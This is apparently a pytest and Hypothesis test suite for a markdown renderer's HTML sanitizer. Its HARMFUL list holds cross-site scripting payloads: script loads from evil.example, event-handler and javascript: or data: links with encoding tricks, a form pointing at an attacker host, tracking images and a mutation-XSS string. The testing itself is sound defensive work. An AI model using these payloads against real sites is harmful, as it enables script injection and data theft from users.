from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reportgen.outputs.page.markdown import SCHEMES, TAGS, SafeHtml, render_markdown


class Reader(HTMLParser):
    """Collects what a browser would make of a text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.odd: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.odd.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def check(html: str) -> Reader:
    """Nothing but the allowed tags, attributes and schemes."""
    read = Reader(html)
    assert not read.odd
    for tag, attributes in read.elements:
        assert tag in TAGS
        assert set(attributes) <= ({"href", "title", "rel"} if tag == "a" else set())
        if "href" in attributes:
            # as browsers do: white space and control characters count for nothing before the scheme is read
            scheme = re.match("([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", attributes["href"]).lower())
            assert scheme is None or scheme[1] in SCHEMES
            assert "noopener" in attributes["rel"]
    return read


HARMFUL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>body{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    '<a href="https://x.example" onclick="alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object>',
    "<form action=//evil.example><input name=a></form>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<p style="position:fixed">x</p>',
    '<div id="content">x</div>',
    "<!-- a comment --><b>x</b>",
    "<![CDATA[x]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\\\\\evil.example\\x)",
    "[x](other.html)",
    "[x](?query)",
    "[x](&#14;javascript:alert(1))",
    "[x](&#9;data:text/html,x)",
    "[x](blob:https://evil)",
    "[x](ftp://evil)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](jar:x)",
    "[x](ms-word:x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://x.example "\\" onmouseover=alert(1) a=\\"")',
    '[x](https://x.example"onmouseover="alert(1))',
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: https://evil.example/track.png",
    "[![x](https://evil.example/track.png)](https://x.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onclick=alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "|<b>a</b>|b|\n|-|:-:|\n|<script>x</script>|y|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]


@pytest.mark.parametrize("markdown", HARMFUL)
def test_nothing_harmful_comes_through(markdown):
    check(render_markdown(markdown).text)


@pytest.mark.parametrize(
    "markdown", [text for text in HARMFUL if "[x](" in text and "https:" not in text and "\t" not in text]
)
def test_harmful_links_lead_nowhere(markdown):
    assert not any(attributes.get("href") for _, attributes in check(render_markdown(markdown).text).elements)


PIECES = st.lists(
    st.sampled_from([
        "<", ">", "[", "](", ")", "!", '"', "'", "`", "```", "\n", "\n\n", "    ", "#", "*", "|", "|-|", "&", ";", "&#",
        "script", "<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:", "data:", "https://a.example",
        "onclick=", "style=", "<svg", "<!--", "-->", "x", "=", "\\", "<a href=", "]: ", "~~",
    ]),
    max_size=25,
).map("".join)  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(markdown=PIECES | st.text(max_size=80))
def test_whatever_is_written(markdown):
    check(render_markdown(markdown).text)


@settings(deadline=None)
@given(word=st.text(st.characters(categories=("L", "N")), min_size=1, max_size=30))
def test_words_stay_words(word):
    assert check(render_markdown(f"before {word} after").text).text.strip() == f"before {word} after"


def test_links_within_the_page_stay():
    _, link = check(render_markdown("[x](#layer-1)").text).elements
    assert link[1]["href"] == "#layer-1"


def test_characters_that_act_are_replaced():
    assert render_markdown("a\x1b[31m\u202eb\x00\udce9").text == "<p>a\ufffd[31m\ufffdb\ufffd\ufffd</p>\n"


def test_raw_html_is_shown_as_text():
    assert "<script>alert(1)</script>" in check(render_markdown("<script>alert(1)</script>").text).text


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a", "<ol>\n<li>a</li>\n</ol>"),
        ("a\n\n---", "<p>a</p>\n<hr>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("    a < b", "<pre><code>a &lt; b\n</code></pre>"),
        ("[a](https://x.example)", '<p><a href="https://x.example" rel="noopener noreferrer">a</a></p>'),
        ("[a](mailto:a@x.example)", '<p><a href="mailto:a@x.example" rel="noopener noreferrer">a</a></p>'),
        ("a & b", "<p>a &amp; b</p>"),
        ("![a](https://x.example)", '<p>!<a href="https://x.example" rel="noopener noreferrer">a</a></p>'),
    ],
)
def test_what_is_allowed(markdown, html):
    # a struck text may be written <s> or <del>
    assert render_markdown(markdown).text.strip().replace("del>", "s>") == html


def test_tables():
    read = check(render_markdown("|a|b|\n|-|-|\n|1|2|").text)
    assert [tag for tag, _ in read.elements] == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


@pytest.mark.parametrize(("level", "tag"), [(1, "h4"), (2, "h5"), (3, "h6"), (4, "h6"), (6, "h6")])
def test_headings_are_shifted_below_those_of_the_page(level, tag):
    assert render_markdown(f"{'#' * level} A title").text.strip() == f"<{tag}>A title</{tag}>"


def test_underlined_headings_are_shifted_too():
    assert render_markdown("A\n=\n\nB\n-").text.split() == ["<h4>A</h4>", "<h5>B</h5>"]


def test_safe_html_says_that_it_is_safe():
    assert SafeHtml("<p>").__html__() == "<p>"


@pytest.mark.parametrize(
    "markdown", [">" * 3000 + "x", "[" * 3000, "*" * 3000, "- " * 500 + "x", "`" * 3000, "(" * 3000]
)
def test_deep_nesting(markdown):
    check(render_markdown(markdown).text)
